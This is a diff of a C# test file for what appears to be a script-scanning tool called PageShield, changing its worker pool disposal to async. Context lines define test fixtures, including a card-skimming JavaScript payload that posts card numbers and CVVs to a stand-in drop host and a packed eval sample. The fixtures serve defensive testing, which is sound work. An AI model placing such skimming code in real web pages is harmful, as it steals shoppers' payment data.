@@ -8,7 +8,7 @@ using PageShield.Workers;
 namespace PageShield.Tests.Workers;
 
 /// <summary>Real worker processes, and texts that end them.</summary>
-public sealed class WorkerPoolTests : IDisposable
+public sealed class WorkerPoolTests : IAsyncDisposable
 {
     private const string Skimmer = "document.forms[0].onsubmit = function () { fetch('https://drop.example/x.gif', { method: 'POST', body: document.querySelector('#card_number').value + document.querySelector('[name=cvv]').value }); };\n";
     private const string Packed = "eval(function(p,a,c,k,e,d){BODY}('0 1 2',62,3,'a|b|c'.split('|'),0,{}))";
@@ -123,7 +123,7 @@ public sealed class WorkerPoolTests : IDisposable
     [Fact]
     public async Task A_missing_worker_program_is_the_systems_fault_and_names_itself()
     {
-        using var pool = new WorkerPool(new WorkerOptions { Program = new WorkerProgram("/nowhere/page-shield", [WorkerProgram.Verb]) });
+        await using var pool = new WorkerPool(new WorkerOptions { Program = new WorkerProgram("/nowhere/page-shield", [WorkerProgram.Verb]) });
 
         var error = await Assert.ThrowsAsync<WorkerUnavailableException>(() => new ScriptExaminer(workers: pool).ExamineAsync(new ScriptToJudge { Source = "var a = 1;" }, Cancel));
 
@@ -131,5 +131,5 @@ public sealed class WorkerPoolTests : IDisposable
         Assert.Equal(error.Message, pool.Problem);
     }
 
-    public void Dispose() => _pool.Dispose();
+    public ValueTask DisposeAsync() => _pool.DisposeAsync();
 }
